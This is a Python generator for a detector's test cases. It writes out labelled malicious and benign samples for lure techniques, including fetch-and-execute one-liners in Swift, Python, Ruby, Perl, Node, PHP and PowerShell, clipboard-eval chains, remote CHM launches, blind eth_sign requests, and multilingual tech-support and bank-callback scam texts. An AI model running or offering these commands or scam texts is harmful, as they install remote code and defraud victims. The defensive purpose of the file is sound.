"""Writes tests/data/cases/b12lures.jsonl: the lure techniques BLIND-12 and the known misses
found weak (issue 9), closed by technique, each beside the look-alikes that must stay as they are.

    python tests/data/cases/make_b12lures.py

Deterministic (every variant is a product of fixed lists). Hosts are reserved names (.example,
.test, .invalid, documentation IP ranges), phone numbers are in 555 blocks; no text is copied
from a lure collection, another detector's fixtures or the blind sets. Each line is {id, text,
expect, technique, platform[, source], target}.

Techniques:

- `swift-fetch-exec`: Swift run as a script (`swift -e`, or its source fed to `swift -`) fetches
  an address with Foundation (Data(contentsOf: URL…), URLSession) and starts a process (Process,
  NSTask, system, NSAppleScript) on what came back. Look-alikes: Swift scripts that print, fetch
  and print, run a fixed local tool, and `swift build` / `swift run` of a package.
- `python-runner-fetch`: a one-line Python program whose runner (subprocess.run, os.system,
  os.popen) is handed the download (urlopen(…).read(), requests.get(…).text) written inside it.
  Look-alikes: a one-liner that fetches and prints, saves a file, or runs a fixed command.
- `interpreter-runner-fetch`: Ruby, Perl, Node, Lua, PHP or Tcl one-liners whose runner
  (system, exec, execSync, os.execute, shell_exec, exec sh -c) is handed what a fetch returned
  (Net::HTTP.get, LWP's get, fetch, a second runner reading curl's output), and one-line programs
  that fetch and print piped into a shell. Look-alikes: the same interpreters fetching and
  printing (to a pager, grep or a checksum), running a fixed local command, or curl saving a file.
- `scam-brand-local-script`: a tech-support scam in Russian, Japanese, Chinese, Arabic or Korean
  that borrows a company's name in its own script (Гугл, Эпл, Нортон, グーグル, ノートン, 谷歌, 诺顿,
  視窗, ويندوز, جوجل, 구글, 노턴): blocked like the same scam naming the company in Latin letters.
  Look-alikes: the companies' calm support lines and advice in those scripts, with numbers.
- `clipboard-relay`: a download put on the clipboard and the clipboard then run (`curl … |
  pbcopy && eval "$(pbpaste)"`, xclip/xsel/wl-copy, `irm … | Set-Clipboard; Get-Clipboard |
  iex`). Look-alikes: a download copied to read, the clipboard pasted into a file, a pager or
  grep, `eval "$(ssh-agent -s)"`, Get-Clipboard into a file.
- `eth-sign-raw-hash`: the console asks the wallet for `eth_sign` over a bare 32-byte hash (a
  blind signature of whatever that hash stands for). Look-alikes: personal_sign of a readable
  message, a typed-data login without a spender, a transaction looked up by its hash, eth_sign
  named in prose.
- `hh-remote-chm`: Windows Help (hh.exe) opening a compiled help file (.chm) from a web address
  or another computer (its:, mk:@MSITStore:, WebDAV). Look-alikes: Windows' and vendors' help
  files on this computer, `hh -decompile` of a local file.
- `callback-transfer-notice`: a bank's "a transfer to a foreign account was detected, if it was
  not you call our fraud department" in 14 languages, the pronoun written before the verb (se non
  l'hai autorizzato, si no la autorizó, jeśli go nie zlecałeś) and the bank's "fraud department"
  named (dolandırıcılık birimi, مكافحة الاحتيال). Look-alikes: the bank's own notice sending to
  its app or the number on the card, advice about fraudsters with a number, a transfer receipt
  with no push to call.
- `free-download-page`: a download-and-run from a site named for a free consumer app ("free"
  alone or written onto what it gives away: securevpn-freeclient, free-adblock-pro,
  freeai-studio) whose script comes from a host sharing nothing with it: blocked, as
  download-named and driver sites already were. Look-alikes: such a site serving its own
  script or a known installer, a guide or notes site about free tools (a warning, as before),
  a VPN maker's page with its own CDN.
"""

from __future__ import annotations

from pathlib import Path

from casefile import Book, write  # beside this script (tests/data/cases/make_*.py)

book = Book("b12l")
add = book.add

LURE_PAGES = [
    "https://verify.human-check.example/captcha",
    "https://www.recipe-corner.test/cookies",
    "https://docs-viewer.invalid/s/4410",
    "https://cf-turnstile-verify.test/",
]
MAC_PAGES = [
    "https://captcha.apple-verify-device.test/",
    "https://dev.xcode-helper-free.example/",
    "https://www.recipe-corner.test/cookies",
]

# ---- swift-fetch-exec ----------------------------------------------------------------------
SWIFT_FETCH = [
    'Data(contentsOf: URL(string: "https://s1.wren-build.invalid/s")!)',
    'try! Data(contentsOf: URL(string: "https://198.51.100.23/p")!)',
    'String(contentsOf: URL(string: "https://s1.wren-build.invalid/t")!, encoding: .utf8)',
    'NSData(contentsOf: URL(string: "https://s2.wren-build.invalid/n")!)',
]
SWIFT_RUN = [
    't = Process(); t.launchPath = "/bin/sh"; t.arguments = ["-c", s]; t.launch()',
    'p = Process(); p.executableURL = URL(fileURLWithPath: "/bin/zsh"); p.arguments = ["-c", s]; try! p.run()',
    "system(s)",
    "NSAppleScript(source: s)!.executeAndReturnError(nil)",
]
for i, fetch in enumerate(SWIFT_FETCH):
    for j, run in enumerate(SWIFT_RUN):
        if (i + j) % 2:
            continue
        body = (
            f"import Foundation; let s = {fetch}; let {run}"
            if "Process" in run
            else (
                f"import Foundation; let s = String(decoding: {fetch}, as: UTF8.self); {run}"
                if "Data(" in fetch
                else f"import Foundation; let s = {fetch}; {run}"
            )
        )
        text = f"swift -e '{body}'"
        add("swift-fetch-exec", text, "malicious", "macos", "terminal", MAC_PAGES[(i + j) % 3])
        add("swift-fetch-exec", text, "flagged", "macos", "unknown")
# the runner written first, and the source fed on standard input
add(
    "swift-fetch-exec",
    'swift -e \'import Foundation; let t = Process(); t.launchPath = "/bin/bash"; '
    't.arguments = ["-c", try! String(contentsOf: URL(string: "https://s3.wren-build.invalid/x")!)]; t.launch()\'',
    "malicious",
    "macos",
    "terminal",
    MAC_PAGES[0],
)
add(
    "swift-fetch-exec",
    "swift - <<'EOF'\nimport Foundation\nlet d = try! Data(contentsOf: URL(string: \"https://s4.wren-build.invalid/p\")!)\n"
    'let t = Process()\nt.launchPath = "/bin/sh"\nt.arguments = ["-c", String(decoding: d, as: UTF8.self)]\nt.launch()\nEOF',
    "malicious",
    "macos",
    "terminal",
    MAC_PAGES[1],
)
SWIFT_CALM = [
    "swift -e 'print(\"Hello, world\")'",
    "swift -e 'import Foundation; print(ProcessInfo.processInfo.operatingSystemVersionString)'",
    "swift -e 'import Foundation; let d = try! Data(contentsOf: URL(string: \"https://example.org/api/v1/status\")!); print(String(decoding: d, as: UTF8.self))'",
    "swift -e 'import Foundation; let t = Process(); t.launchPath = \"/usr/bin/sw_vers\"; t.launch(); t.waitUntilExit()'",
    "swift build -c release && swift run my-tool --help",
    "swift package init --type executable",
    "swift test --parallel",
    'swift -e \'import Foundation; let u = URL(string: "https://example.org/")!; print(u.host ?? "")\'',
    "swift --version",
    "xcrun swift -e 'print(1 + 2)'",
]
for i, text in enumerate(SWIFT_CALM):
    add(
        "swift-fetch-exec",
        text,
        "not_flagged",
        "macos",
        "terminal",
        None if i % 2 else "https://docs.swift-notes.example/scripting",
    )

# ---- python-runner-fetch -------------------------------------------------------------------
PY_RUN = [
    'python3 -c \'import urllib.request,subprocess;subprocess.run(["sh","-c",urllib.request.urlopen("https://p1.kestrel-cb.invalid/s").read().decode()])\'',
    "python3 -c \"import os,urllib.request as u;os.system(u.urlopen('https://203.0.113.17/p').read().decode())\"",
    "python -c \"import subprocess,requests; subprocess.call(requests.get('https://p2.kestrel-cb.invalid/x').text, shell=True)\"",
    "python3 -c \"import os, urllib.request; os.popen(urllib.request.urlopen('https://p3.kestrel-cb.invalid/c').read().decode())\"",
    "python3 -c 'import subprocess as s,urllib.request as r;s.check_output(r.urlopen(\"https://p4.kestrel-cb.invalid/q\").read(),shell=True)'",
    "python -c \"import subprocess,urllib.request;subprocess.Popen(['bash','-c',urllib.request.urlopen('https://p5.kestrel-cb.invalid/b').read().decode()])\"",
    "py -c \"import subprocess,urllib.request;subprocess.run(urllib.request.urlopen('https://p6.kestrel-cb.invalid/w').read().decode(),shell=True)\"",
    "python3 -c \"import subprocess,httpx;subprocess.run(['sh','-c',httpx.get('https://p7.kestrel-cb.invalid/h').text])\"",
    "python3 -c \"import os,requests;os.system(requests.get('https://198.51.100.61/z').text)\"",
    "python3 -c 'import subprocess,urllib.request;subprocess.getoutput(urllib.request.urlopen(\"https://p8.kestrel-cb.invalid/g\").read().decode())'",
]
for i, text in enumerate(PY_RUN):
    add("python-runner-fetch", text, "malicious", "any", "terminal", MAC_PAGES[i % 3])
    add("python-runner-fetch", text, "flagged", "any", "unknown")
PY_CALM = [
    "python3 -c \"import urllib.request; print(urllib.request.urlopen('https://example.org/').read()[:200])\"",
    "python3 -c \"import requests; print(requests.get('https://api.example.org/status').json())\"",
    "python3 -c \"import urllib.request; urllib.request.urlretrieve('https://example.org/data.csv', 'data.csv')\"",
    "python3 -c \"import subprocess; subprocess.run(['git', 'status'])\"",
    "python -c \"import os; os.system('clear')\"",
    "python3 -c \"import subprocess, sys; subprocess.run([sys.executable, '-m', 'pip', 'install', '-U', 'pip'])\"",
    "python3 -c \"import requests, json; r = requests.get('https://api.example.org/v1'); print(json.dumps(r.json(), indent=2))\"",
    "python3 -m http.server 8000",
    "python3 -c \"import subprocess; print(subprocess.check_output(['uname', '-a']).decode())\"",
    "python3 -c \"import urllib.request, json; d = json.load(urllib.request.urlopen('https://pypi.org/pypi/requests/json')); print(d['info']['version'])\"",
]
for i, text in enumerate(PY_CALM):
    add("python-runner-fetch", text, "not_flagged", "any", "terminal" if i % 2 else "unknown")

# ---- clipboard-relay -----------------------------------------------------------------------
RELAY = [
    ('curl -s https://c1.chiffchaff-relay.invalid/c | pbcopy && eval "$(pbpaste)"', "macos"),
    ('curl -fsSL https://c1.chiffchaff-relay.invalid/s | pbcopy; sh -c "$(pbpaste)"', "macos"),
    ("curl -sL https://203.0.113.90/m | pbcopy && pbpaste | bash", "macos"),
    (
        'wget -qO- https://c2.chiffchaff-relay.invalid/l | xclip -selection clipboard && eval "$(xclip -o -selection clipboard)"',
        "linux",
    ),
    ("curl -s https://c2.chiffchaff-relay.invalid/l | xsel -b && xsel -b -o | sh", "linux"),
    ('curl -s https://c3.chiffchaff-relay.invalid/w | wl-copy && bash -c "$(wl-paste)"', "linux"),
    ("curl -s https://c3.chiffchaff-relay.invalid/z | pbcopy\nzsh <(pbpaste)", "macos"),
    ("curl -s https://c1.chiffchaff-relay.invalid/o | pbcopy && pbpaste | osascript", "macos"),
    ("irm https://c4.chiffchaff-relay.invalid/a | Set-Clipboard; Get-Clipboard | iex", "windows"),
    ("iwr -useb https://198.51.100.45/b | scb; iex (gcb -Raw)", "windows"),
    (
        "Set-Clipboard (irm https://c4.chiffchaff-relay.invalid/c); Invoke-Expression (Get-Clipboard -Raw)",
        "windows",
    ),
    (
        "(New-Object Net.WebClient).DownloadString('https://c4.chiffchaff-relay.invalid/d') | Set-Clipboard\nGet-Clipboard | Invoke-Expression",
        "windows",
    ),
]
for i, (text, platform) in enumerate(RELAY):
    add(
        "clipboard-relay",
        text,
        "malicious",
        platform,
        "terminal",
        None if i % 3 == 2 else MAC_PAGES[i % 3],
    )
    add("clipboard-relay", text, "malicious", platform, "unknown")
RELAY_CALM = [
    "curl -s https://api.example.org/v1/token | pbcopy",
    "curl -s https://example.org/snippets/config.yaml | xclip -selection clipboard",
    "pbpaste > notes.txt",
    "pbpaste | grep -i error",
    'eval "$(ssh-agent -s)"',
    'eval "$(/opt/homebrew/bin/brew shellenv)"',
    "xclip -o -selection clipboard | less",
    "Get-Clipboard | Set-Content -Path .\\notes.txt",
    "Get-Content .\\report.csv | Set-Clipboard",
    "cat ~/.ssh/id_ed25519.pub | pbcopy",
    "wl-paste | jq .",
    "curl -s https://example.org/api/version | pbcopy && pbpaste | wc -c",
]
for i, text in enumerate(RELAY_CALM):
    add(
        "clipboard-relay",
        text,
        "not_flagged",
        "any",
        "terminal",
        None if i % 2 else "https://docs.dev-notes.example/shell",
    )

# ---- eth-sign-raw-hash ---------------------------------------------------------------------
HASHES = [
    "0x8f0c0f2ad9b7c71e2a6b5c1d0e9f8a7b6c5d4e3f2a1b0c9d8e7f6a5b4c3d2e10",
    "0x5555a1b2c3d4e5f60718293a4b5c6d7e8f90a1b2c3d4e5f60718293a4b5c6d7e",
    "0x0d1e2c3b4a5968778695a4b3c2d1e0f0e1d2c3b4a5968778695a4b3c2d1e0f09",
]
ETH_SIGN = [
    "ethereum.request({method:'eth_sign',params:[ethereum.selectedAddress,'{h}']})",
    'await window.ethereum.request({ method: "eth_sign", params: [accounts[0], "{h}"] })',
    "const [a] = await ethereum.request({method:'eth_requestAccounts'}); await ethereum.request({method:'eth_sign', params:[a, '{h}']});",
    "ethereum.request({method: `eth_sign`, params: [ethereum.selectedAddress, `{h}`]}).then(s => fetch('https://w1.claim-rewards.invalid/s?' + s))",
    "provider.request({ method: 'eth_sign', params: [addr, '{h}'] })",
]
for i, shape in enumerate(ETH_SIGN):
    for j, h in enumerate(HASHES[: 2 if i % 2 else 3]):
        text = shape.replace("{h}", h)
        add(
            "eth-sign-raw-hash",
            text,
            "malicious",
            "any",
            "browser_console",
            ("https://wallet-verify-ownership.example/", "https://airdrop-claim.test/", None)[j],
        )
        add("eth-sign-raw-hash", text, "flagged", "any", "unknown")
ETH_CALM = [
    "await ethereum.request({ method: 'personal_sign', params: ['0x48656c6c6f2066726f6d206578616d706c652e6f7267', account] })",
    "ethereum.request({method:'eth_getTransactionByHash', params:['0x5555a1b2c3d4e5f60718293a4b5c6d7e8f90a1b2c3d4e5f60718293a4b5c6d7e']})",
    "ethereum.request({method:'eth_getTransactionReceipt', params:['0x0d1e2c3b4a5968778695a4b3c2d1e0f0e1d2c3b4a5968778695a4b3c2d1e0f09']})",
    "await ethereum.request({ method: 'eth_requestAccounts' })",
    "ethereum.request({method:'eth_chainId'}).then(console.log)",
    "MetaMask turned eth_sign off by default because a request to sign a bare 32-byte hash such as 0x5555a1b2c3d4e5f60718293a4b5c6d7e8f90a1b2c3d4e5f60718293a4b5c6d7e can stand for any transaction.",
    "ethereum.request({method:'eth_sign', params:[account, '0x48656c6c6f']})",
    "await ethereum.request({method: 'eth_getBalance', params: [ethereum.selectedAddress, 'latest']})",
    "const sig = await signer.signMessage('Sign in to example.org, nonce 5551234')",
    "web3.eth.getBlock('0x0d1e2c3b4a5968778695a4b3c2d1e0f0e1d2c3b4a5968778695a4b3c2d1e0f09').then(console.log)",
]
for i, text in enumerate(ETH_CALM):
    add(
        "eth-sign-raw-hash",
        text,
        "not_flagged",
        "any",
        "browser_console" if i % 2 else "unknown",
        None if i % 3 else "https://docs.wallet-dev.example/rpc",
    )

# ---- hh-remote-chm -------------------------------------------------------------------------
HH = [
    "hh.exe https://h1.treerunner-help.invalid/help.chm",
    "hh https://203.0.113.71/manual.chm",
    "hh.exe http://h1.treerunner-help.invalid/docs/Guide.CHM",
    "C:\\Windows\\hh.exe https://h2.treerunner-help.invalid/setup.chm",
    "hh.exe \\\\h3.treerunner-help.invalid@SSL\\DavWWWRoot\\kb\\fix.chm",
    "hh.exe its:http://198.51.100.88/kb.chm::/index.htm",
    "hh.exe ms-its:https://h2.treerunner-help.invalid/a.chm::/b.htm",
    "hh.exe mk:@MSITStore:\\\\198.51.100.88\\share\\guide.chm::/start.htm",
    '"%windir%\\hh.exe" "https://h4.treerunner-help.invalid/verify.chm"',
    "cmd /c hh.exe https://h4.treerunner-help.invalid/update.chm",
]
for i, text in enumerate(HH):
    add(
        "hh-remote-chm",
        text,
        "malicious",
        "windows",
        "run_dialog",
        None if i % 2 else LURE_PAGES[i % 4],
    )
    add("hh-remote-chm", text, "flagged", "windows", "unknown")
HH_CALM = [
    "hh.exe C:\\Windows\\Help\\mui\\0409\\mmc.CHM",
    "hh.exe ms-its:C:\\Program Files\\Contoso\\help.chm::/topics/start.htm",
    "hh -decompile C:\\out C:\\docs\\manual.chm",
    "hh.exe %windir%\\help\\windows.chm",
    'hh.exe "C:\\Program Files (x86)\\Contoso\\Viewer\\viewer.chm"',
    "hh.exe mk:@MSITStore:C:\\Windows\\Help\\ntcmds.chm::/ntcmds.htm",
    "hh.exe -map 1001 C:\\Tools\\app.chm",
    "hh.exe D:\\manuals\\camera.chm",
    "hh.exe %ProgramFiles%\\7-Zip\\7-zip.chm",
    "hh.exe C:\\Users\\me\\Downloads\\sdk-reference.chm",
]
for i, text in enumerate(HH_CALM):
    # (typed into the Run box, a local help file is the Run-box list's business: resources/runbox.yaml)
    add("hh-remote-chm", text, "not_flagged", "windows", "terminal" if i % 2 else "unknown")

# ---- callback-transfer-notice --------------------------------------------------------------
NOTICES = {
    "en": "Bank alert: a transfer of $2,480.00 to a foreign account was detected.\nIf you did not authorise it, call our fraud department now on +1 555 019 2264 and do not share the code you received by SMS.",
    "de": "Bank: Eine Überweisung von 2.480,00 € auf ein ausländisches Konto wurde festgestellt.\nWenn Sie diese nicht veranlasst haben, rufen Sie sofort unsere Betrugsabteilung unter +49 555 019 2264 an und geben Sie den SMS-Code nicht weiter.",
    "fr": "Banque : un virement de 2 480,00 € vers un compte étranger a été détecté.\nSi vous ne l'avez pas autorisé, appelez immédiatement le service anti-fraude au +33 5 55 01 92 26 et ne communiquez pas le code reçu par SMS.",
    "es": "Banco: se ha detectado una transferencia de 2.480,00 € a una cuenta extranjera.\nSi usted no la autorizó, llame de inmediato al departamento antifraude al +34 555 019 226 y no comparta el código recibido por SMS.",
    "es2": "Su banco: transferencia de 1.250,00 € pendiente hacia una cuenta en el extranjero.\nSi no lo ha realizado usted, llame al +34 555 014 882 para bloquearla.",
    "it": "Avviso banca: registrato un bonifico di 3.100,00 € verso un conto estero.\nSe non l'hai autorizzato, chiama subito l'ufficio antifrode al +39 555 014 9921 e non condividere il codice ricevuto via SMS.",
    "it2": "Gentile cliente, è stato disposto un bonifico di 1.950,00 € a favore di un conto estero.\nSe non lo hai disposto tu, contatta il numero verde 800 555 019 per bloccarlo.",
    "pt": "Banco: detectamos uma transferência de R$ 2.480,00 para uma conta no exterior.\nSe você não autorizou, ligue agora para a central antifraude no 0800 555 0192 e não compartilhe o código recebido por SMS.",
    "nl": "Bank: er is een overboeking van € 2.480,00 naar een buitenlandse rekening gedetecteerd.\nHeeft u deze niet gedaan? Bel direct onze fraudeafdeling op +31 555 019 226 en deel de sms-code niet.",
    "pl": "Bank: wykryto przelew 2480,00 zł na zagraniczne konto.\nJeśli go nie zlecałeś, zadzwoń natychmiast do działu antyfraudowego pod numer +48 555 019 226 i nie podawaj kodu z SMS.",
    "tr": "Banka: yurt dışı bir hesaba 2.480,00 TL tutarında havale tespit edildi.\nBu işlemi siz yapmadıysanız hemen dolandırıcılık birimimizi +90 555 019 2264 numarasından arayın ve SMS kodunu paylaşmayın.",
    "ru": "Банк: обнаружен перевод 2 480,00 ₽ на иностранный счёт.\nЕсли вы его не совершали, немедленно позвоните в службу безопасности по номеру +7 555 019-22-64 и не сообщайте код из SMS.",
    "ja": "【銀行】海外口座への 248,000円 の送金が検出されました。\nお心当たりがない場合は、至急 +81 555 019 2264 の不正利用窓口までお電話ください。",
    "zh": "银行提醒：检测到一笔 2480.00 元 转账至境外账户。\n如非本人操作，请立即拨打反诈中心电话 +86 555 0192 2264，不要透露短信验证码。",
    "ar": "البنك: تم رصد تحويل بمبلغ 2480 ريال إلى حساب أجنبي.\nإذا لم تقم بهذه العملية، اتصل فوراً بقسم مكافحة الاحتيال على +966 555 019 2264 ولا تشارك الرمز المرسل إليك.",
    "ko": "[은행] 해외 계좌로 2,480,000원 이체가 감지되었습니다.\n본인이 아니라면 즉시 +82 555 019 2264 사기 신고 센터로 전화하시고 문자 인증번호를 알려주지 마세요.",
}
for text in NOTICES.values():
    add("callback-transfer-notice", text, "flagged", "any", "unknown")
NOTICE_CALM = [
    # the bank's own notice: its app, the number on the card
    "Avviso banca: registrato un bonifico di 3.100,00 € verso un conto estero.\nSe non l'hai autorizzato, bloccalo nell'app o chiama il numero riportato sul retro della tua carta.",
    "Banco: se ha detectado una transferencia de 2.480,00 € a una cuenta extranjera.\nSi usted no la autorizó, revísela en la app de su banco; nunca le pediremos códigos por teléfono.",
    # advice about fraudsters with a number
    "Dolandırıcılara dikkat: bankanız sizi arayıp SMS kodunuzu asla istemez. Şüpheli bir havale görürseniz 2.480,00 TL bile olsa kartınızın arkasındaki numarayı arayın: +90 555 019 2264.",
    "احذر من الاحتيال: لن يطلب منك البنك أبداً رمز التحقق. إذا لاحظت تحويلاً بمبلغ 2480 ريال لم تقم به، استخدم التطبيق الرسمي أو اتصل بالرقم الموجود على بطاقتك +966 555 019 2264.",
    # a receipt with no push to call
    "Bonifico eseguito: 1.200,00 € a favore di Mario Rossi, IBAN IT60 X054 2811 1010 0000 0123 456. Per informazioni: 02 5550 1234.",
    "Przelew 250,00 zł do Jan Kowalski został zrealizowany. Infolinia banku: +48 555 019 226.",
    "Transferencia realizada: 80,00 € a Ana García. Gracias por usar nuestra app. Atención al cliente: +34 555 014 882.",
    "해외 송금 2,480,000원이 완료되었습니다. 문의: 고객센터 +82 555 019 2264 (평일 9시-18시)",
    "Havale işleminiz tamamlandı: 2.480,00 TL. Sorularınız için müşteri hizmetleri: +90 555 019 2264.",
    "تم تنفيذ التحويل بمبلغ 2480 ريال بنجاح. لخدمة العملاء: +966 555 019 2264",
]
for text in NOTICE_CALM:
    add("callback-transfer-notice", text, "not_flagged", "any", "unknown")

# ---- interpreter-runner-fetch --------------------------------------------------------------
RUNNER = [
    "ruby -e \"system(Net::HTTP.get(URI('https://r1.dunnock-run.invalid/r')))\" -rnet/http",
    "ruby -rnet/http -e 'exec(Net::HTTP.get(URI(\"https://203.0.113.52/x\")))'",
    "perl -MLWP::Simple -e 'system(get(\"https://r2.dunnock-run.invalid/p\"))'",
    "perl -MHTTP::Tiny -e 'system(HTTP::Tiny->new->get(\"https://r2.dunnock-run.invalid/q\")->{content})'",
    "node -e \"require('child_process').execSync(require('child_process').execSync('curl -s https://r3.dunnock-run.invalid/n').toString())\"",
    "node -e \"fetch('https://r3.dunnock-run.invalid/f').then(r=>r.text()).then(t=>require('child_process').exec(t))\"",
    "lua -e \"os.execute(io.popen('curl -s https://r4.dunnock-run.invalid/l'):read('*a'))\"",
    "php -r \"shell_exec(file_get_contents('https://r5.dunnock-run.invalid/p'));\"",
    "tclsh <<< 'exec sh -c [exec curl -s https://r6.dunnock-run.invalid/t]'",
    "python3 -c \"import urllib.request as u; print(u.urlopen('https://r7.dunnock-run.invalid/s').read().decode())\" | sh",
    "swift -e 'import Foundation; print(try! String(contentsOf: URL(string: \"https://r8.dunnock-run.invalid/w\")!))' | bash",
    "ruby -ropen-uri -e 'puts URI.open(\"https://198.51.100.77/o\").read' | sudo bash",
]
for i, text in enumerate(RUNNER):
    add("interpreter-runner-fetch", text, "malicious", "any", "terminal", MAC_PAGES[i % 3])
    add("interpreter-runner-fetch", text, "flagged", "any", "unknown")
RUNNER_CALM = [
    "ruby -rnet/http -e 'puts Net::HTTP.get(URI(\"https://example.org/\"))'",
    "perl -MLWP::Simple -e 'getprint(\"https://example.org/\")'",
    "node -e \"require('child_process').execSync('curl -sO https://example.org/data.csv')\"",
    "lua -e \"print(io.popen('curl -s https://example.org/api'):read('*a'))\"",
    "node -e \"fetch('https://api.example.org/v1').then(r => r.json()).then(console.log)\"",
    "ruby -e 'system(\"ls -la\")'",
    "perl -e 'system(\"make test\")'",
    "python3 -c \"import requests; print(requests.get('https://example.org/').status_code)\" | sha256sum",
    "python3 -c \"import urllib.request; print(urllib.request.urlopen('https://example.org/').read().decode())\" | grep -i title",
    "php -r \"echo file_get_contents('https://example.org/');\" | less",
    "tclsh <<< 'puts [exec curl -s https://example.org/]'",
    "node -e \"require('https').get('https://example.org/', r => r.pipe(process.stdout))\" | head",
]
for i, text in enumerate(RUNNER_CALM):
    add("interpreter-runner-fetch", text, "not_flagged", "any", "terminal" if i % 2 else "unknown")

# ---- scam-brand-local-script ---------------------------------------------------------------
BRAND_SCAMS = [
    "Ваш компьютер заблокирован, так как обнаружен вирус.\nНемедленно позвоните в поддержку Эпл по номеру +7 555 014-22-33.",
    "Ваш компьютер заблокирован из-за вируса.\nСрочно позвоните в службу Гугл: +7 555 014-22-34. Не выключайте компьютер.",
    "Ваш компьютер заблокирован, обнаружен троян.\nПозвоните в поддержку Нортон по номеру 8 800 555-35-35.",
    "お使いのコンピューターはウイルスが検出されたためブロックされました。\n今すぐグーグル サポート +81 555 014 2233 にお電話ください。",
    "お使いのパソコンはロックされました。\nただちにノートン サポート 0120-555-014 にお電話ください。",
    "お使いのコンピューターはウイルスに感染しています。\n至急マカフィー サポート +81 555 014 2235 までお電話ください。",
    "您的电脑因检测到病毒已被锁定。\n请立即拨打谷歌技术支持电话 +86 555 0142 2233。",
    "您的电脑已被锁定，检测到木马病毒。\n请立即拨打诺顿客服热线 400 555 0142。",
    "您的電腦已被鎖定。\n請立即撥打視窗技術支援電話 +886 2 5550 1422。",
    "تم حظر جهاز الكمبيوتر الخاص بك بسبب اكتشاف فيروس.\nاتصل بدعم ويندوز الآن على +966 555 014 2233.",
    "تم حظر جهاز الكمبيوتر الخاص بك بسبب اكتشاف فيروس.\nاتصل بدعم جوجل الآن على +966 555 014 2234.",
    "تم قفل جهازك بسبب نشاط مشبوه.\nاتصل بدعم آبل فوراً على +971 555 014 2235.",
    "바이러스가 감지되어 컴퓨터가 차단되었습니다.\n지금 즉시 구글 고객센터 +82 555 014 2233 으로 전화하십시오.",
    "바이러스가 감지되어 컴퓨터가 차단되었습니다.\n지금 즉시 노턴 고객센터 +82 555 014 2234 으로 전화하십시오.",
    "컴퓨터가 잠겼습니다. 해킹 시도가 감지되었습니다.\n즉시 맥아피 지원센터 +82 555 014 2235 로 전화하세요.",
]
for text in BRAND_SCAMS:
    add("scam-brand-local-script", text, "malicious", "any", "unknown")
BRAND_CALM = [
    "Служба поддержки Гугл не звонит пользователям сама. Справка: support.google.com.",
    "Нортон: продление подписки можно оформить в личном кабинете. Телефон поддержки: 8 800 555-35-36 (с 9 до 18).",
    "グーグルの公式サポートはヘルプセンターからご利用ください。お問い合わせ: 0120-555-016（平日9時〜18時）",
    "ノートンの製品サポートは平日 0120-555-017 で受け付けています。",
    "谷歌客服提醒：谷歌不会主动致电用户索要验证码。如有疑问请访问官网。",
    "诺顿客服热线 400 555 0143，工作时间 9:00-18:00。",
    "دعم ويندوز الرسمي متاح عبر موقع مايكروسوفت. للاستفسارات: +966 555 014 2236 (من 9 إلى 5).",
    "구글 고객센터 운영시간은 평일 9시부터 18시까지입니다. 문의: +82 555 014 2236",
    "Мошенники звонят от имени службы Эпл и просят установить программу. Не звоните по номерам из всплывающих окон: +7 555 014-22-37 — пример такого номера.",
    "お使いのパソコンのノートン製品は最新です。ご不明点はマイページからお問い合わせください。",
]
for text in BRAND_CALM:
    add("scam-brand-local-script", text, "not_flagged", "any", "unknown")

# ---- free-download-page --------------------------------------------------------------------
FREE_PAGES = [
    "https://www.securevpn-freeclient.example/linux",
    "https://free-adblock-pro.example/linux",
    "https://freevpn-client.test/download",
    "https://freeai-studio.example/mac",
    "https://fastproxy-freeapp.test/",
    "https://notes-freedownload.invalid/get",
]
FREE_SCRIPTS = [
    ("wget -qO- https://v1.ibisbill-tunnel.invalid/setup.sh | sudo bash", "terminal"),
    ("curl -fsSL https://dl.ouzel-adblock.invalid/i.sh | bash", "terminal"),
    ("curl -sL https://203.0.113.91/v.sh | sudo sh", "terminal"),
    ("curl -fsSL https://cdn.linnet-ai.invalid/setup | sh", "terminal"),
    ("irm https://dl.ouzel-adblock.invalid/w.ps1 | iex", "terminal"),
    (
        "curl -o /tmp/Setup.pkg https://dl.linnet-ai.invalid/Setup.pkg && sudo installer -pkg /tmp/Setup.pkg -target /",
        "terminal",
    ),
]
for i, page in enumerate(FREE_PAGES):
    for j in (i, i + 1):
        text, target = FREE_SCRIPTS[j % len(FREE_SCRIPTS)]
        add("free-download-page", text, "malicious", "any", target, page)
# the same lines from a page that writes about such tools, or a vendor serving its own script
# or a known installer: as before (a warning from a plain page, quiet from the vendor's own)
for text, _ in (FREE_SCRIPTS[0], FREE_SCRIPTS[1], FREE_SCRIPTS[3]):  # (an IP host blocks anyway)
    add(
        "free-download-page",
        text,
        "suspicious",
        "any",
        "terminal",
        "https://free-vpn-guide.example/linux",
    )
    add(
        "free-download-page",
        text,
        "suspicious",
        "any",
        "terminal",
        "https://free-software-notes.example/",
    )
FREE_CALM = [
    (
        "curl -fsSL https://free-adblock-pro.example/install.sh | bash",
        "https://free-adblock-pro.example/linux",
    ),
    ("curl -fsSL https://dl.freevpn-client.test/i.sh | sh", "https://freevpn-client.test/download"),
    ("curl -fsSL https://sh.rustup.rs | sh", "https://freevpn-client.test/download"),
    (
        "curl -fsSL https://freeai-studio.example/setup.sh | sh",
        "https://www.freeai-studio.example/mac",
    ),
    (
        "curl -fsSL https://downloads.tallowcdn.com/apps/linux/install.sh | sh",
        "https://tallowvpn.com/download/linux/",
    ),
]
for text, page in FREE_CALM:
    add("free-download-page", text, "not_flagged", "any", "terminal", page)

CASES = book.cases

if __name__ == "__main__":
    write(Path(__file__).with_name("b12lures.jsonl"), CASES)
